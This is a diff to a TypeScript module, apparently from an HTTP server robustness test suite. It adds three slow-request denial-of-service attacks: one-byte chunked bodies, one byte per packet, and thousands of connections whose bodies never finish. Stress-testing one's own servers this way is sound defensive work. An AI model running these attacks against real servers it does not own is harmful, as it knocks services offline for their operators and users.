@@ -1,5 +1,5 @@
 import type { Attack } from './attack.ts'
-import { keepOpen } from './raw-connections.ts'
+import { every, keepOpen } from './raw-connections.ts'
 
 /** The head of a form sent from our own page. */
 function post(port: number, length: string): string {
@@ -43,7 +43,47 @@ async function sendTooMuch(target: Parameters<Attack['run']>[0]) {
   return { requests }
 }
 
+/** Each part of a body costs as much as some hundred bytes. */
+async function sendByteByByte(target: Parameters<Attack['run']>[0]) {
+  const parts = post(target.port, 'Transfer-Encoding: chunked') + '1\r\nx\r\n'.repeat(60_000)
+  let requests = 0
+  await keepOpen(target, { connections: 50, networks: 5 }, (socket) => {
+    requests++
+    socket.resume()
+    socket.write(parts)
+  })
+  return { requests }
+}
+
+/** A packet for each byte, which is all that its sender has to say. */
+async function sendInPackets(target: Parameters<Attack['run']>[0]) {
+  const head = post(target.port, `Content-Length: ${ALMOST}`)
+  let requests = 0
+  await keepOpen(target, { connections: 200, networks: 8 }, (socket) => {
+    requests++
+    socket.resume()
+    socket.setNoDelay().write(head)
+    every(5, socket, () => socket.write('x'))
+  })
+  return { requests }
+}
+
+/** More than there are connections, each with a body that it never ends. */
+async function fillWithSenders(target: Parameters<Attack['run']>[0]) {
+  const begun = post(target.port, `Content-Length: ${ALMOST}`) + 'x'
+  let requests = 0
+  await keepOpen(target, { connections: 4_500, networks: 8 }, (socket) => {
+    requests++
+    socket.resume()
+    socket.write(begun)
+  })
+  return { requests }
+}
+
 export const bodyAttacks: Attack[] = [
   { name: 'bodies: 1,000 of 63 KB that never end', quick: true, run: neverFinish },
   { name: 'bodies: larger than allowed, and without end', run: sendTooMuch },
+  { name: 'bodies: in parts of one byte', quick: true, run: sendByteByByte },
+  { name: 'bodies: a packet for each byte', run: sendInPackets },
+  { name: 'bodies: 4,500 that hardly begin, out of 8 networks', run: fillWithSenders },
 ]
